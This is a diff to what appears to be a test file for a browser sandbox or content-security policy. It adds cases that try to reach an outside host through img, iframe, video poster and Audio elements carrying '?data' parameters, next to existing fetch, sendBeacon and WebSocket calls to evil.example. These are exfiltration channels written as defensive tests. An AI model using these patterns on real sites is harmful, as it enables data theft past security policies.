@@ -116,6 +116,10 @@ const attempts: Readonly<Record<string, () => unknown>> = {
   "a request elsewhere": () => fetch(`${elsewhere}/fetch`),
   "a beacon elsewhere": () => navigator.sendBeacon(`${elsewhere}/beacon`, "a"),
   "a socket elsewhere": () => new WebSocket("wss://evil.example/socket"),
+  "a picture elsewhere": () => put(`<img src="${elsewhere}/picture?data">`),
+  "a frame elsewhere": () => put(`<iframe src="${elsewhere}/frame?data"></iframe>`),
+  "a video elsewhere": () => put(`<video src="${elsewhere}/video?data" poster="${elsewhere}/poster?data"></video>`),
+  "a sound elsewhere": () => new Audio(`${elsewhere}/sound?data`).load(),
   "a frame without encryption": () => put(`<iframe src="http://evil.example/frame"></iframe>`),
 };
 
